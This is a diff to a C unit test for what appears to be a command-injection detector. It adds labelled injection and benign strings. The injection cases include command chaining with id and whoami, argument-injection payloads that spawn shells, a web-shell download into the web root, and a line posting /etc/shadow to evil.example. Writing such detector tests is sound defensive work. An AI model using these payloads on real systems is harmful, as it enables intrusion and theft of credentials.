@@ -135,6 +135,21 @@ static void test_cmdi_more_words(void **st)
 		{"ip address; phone", N},
 		{"last name; first name", N},
 		{"w; h; d", N},
+		{"; whoami; echo '", C},
+		{"10.0.0.9; id; echo done", C},
+		{"a | id | cat", C},
+		{"a\nid\necho ok", C},
+		{"x$(id)y", C},
+		{"-oProxyCommand=sh -c id", C},
+		{"--checkpoint=1 --checkpoint-action=exec=sh x.sh", C},
+		{"-o /var/www/html/x.php http://evil.example/x", C},
+		{"--post-file=/etc/shadow http://evil.example/", C},
+		{"-e /bin/bash", C},
+		{"name; id; email", N},
+		{"sleep; eat; repeat", N},
+		{"-o output.txt", N},
+		{"--verbose", N},
+		{"-e mail", N},
 	};
 	rt_run("cmdi-words", t, sizeof(t) / sizeof(t[0]));
 }
